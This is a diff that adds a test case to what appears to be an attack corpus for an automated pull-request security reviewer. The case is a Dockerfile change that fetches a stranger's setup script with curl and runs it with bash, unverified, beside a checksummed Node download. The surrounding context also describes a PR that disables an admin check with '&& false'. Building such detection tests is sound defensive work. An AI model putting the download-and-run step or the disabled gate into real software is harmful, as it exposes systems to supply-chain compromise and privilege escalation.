@@ -3403,6 +3403,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-dockerfile-script-run-beside-checked-archive',
+    description:
+      'A checksum that vouches for another file: the image already checks the Node archive it fetches with sha256sum -c, and a newcomer\'s "faster builds" PR adds a RUN that saves a stranger\'s setup script and runs it with bash, unchecked. A reader that takes any sha256sum in the file as a verified download would pass it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidewatch',
+        number: 74104,
+        title: 'build: warm the npm cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM debian:bookworm-slim@sha256:' + 'c'.repeat(64), 'ARG NODE_SHA256=' + '4'.repeat(64), 'RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SHA256  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1', 'COPY . /app', 'RUN cd /app && npm ci'),
+            head: lines('FROM debian:bookworm-slim@sha256:' + 'c'.repeat(64), 'ARG NODE_SHA256=' + '4'.repeat(64), 'RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SHA256  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1', 'RUN curl -fsSL -o /tmp/warm.sh https://npm-warm-cache.dev/setup.sh && bash /tmp/warm.sh', 'COPY . /app', 'RUN cd /app && npm ci'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
